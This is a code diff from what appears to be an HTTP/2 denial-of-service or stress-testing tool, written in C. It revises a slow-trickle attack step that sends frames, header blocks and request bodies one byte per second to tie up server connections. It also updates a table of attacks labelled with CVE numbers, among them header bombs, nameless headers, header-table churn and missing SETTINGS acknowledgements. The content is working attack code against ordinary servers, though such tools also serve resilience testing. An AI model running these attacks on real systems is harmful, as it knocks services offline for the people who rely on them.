@@ -329,26 +329,25 @@ static bool step_churn(struct peer *peer) {
 
 /* ---- slowness -------------------------------------------------------------------------------- */
 
-/* A byte a second of something that is never complete. variant 0: the preface; 1: a frame; 2: a
- * header block in CONTINUATION frames; 3: a request's body; 4: nothing after SETTINGS. */
+/* A byte a second of something that is never complete. variant 1: a frame; 2: a header block, of
+ * which nothing more comes; 3: a request's body; 4: the same, of which nothing more comes. */
 static bool step_slow(struct peer *peer) {
   if (!wait_for(peer, 1000)) return false;
   const bool first = peer->units == 0;
+  if (options.variant % 2 == 0 && !first) return true;
   switch (options.variant) {
   case 1:
     if (first) put_head(peer, 16000, HEADERS, END_HEADERS, 1);
     put(peer, "\x82", 1);
     break;
   case 2:
-    put_head(peer, 1, first ? HEADERS : CONTINUATION, 0, 1);
+    put_head(peer, 1, HEADERS, 0, 1);
     put(peer, "\x82", 1);
     break;
-  case 3:
-    hold_open(peer, true, "/echo");
+  default:
+    if (first) put_request(peer, false, SLOW_PATH, false);
     put_head(peer, 1, DATA, 0, 1);
     put(peer, "s", 1);
-    break;
-  default: return false;
   }
   return true;
 }
@@ -406,7 +405,8 @@ static const struct attack attacks[] = {
     {"bomb", "CVE-2026-49975, CVE-2016-6581", step_bomb, begin_closed, false},
     {"nameless", "CVE-2019-9516", step_nameless, NULL, false},
     {"churn", "header-table churn", step_churn, begin_wide, false},
-    {"slow", "slow frames, headers, bodies", step_slow, NULL, true},
+    {"slow", "slow frames, headers, bodies", step_slow, NULL, false},
+    {"silent", "no SETTINGS ACK (CVE-2025-53506)", step_idle, NULL, true},
     {"alive", "keep-alive without requests", step_alive, NULL, false},
     {"after-death", "CVE-2026-27135", step_after_death, NULL, false},
     {"idle", "connections that ask for nothing", step_idle, NULL, false},
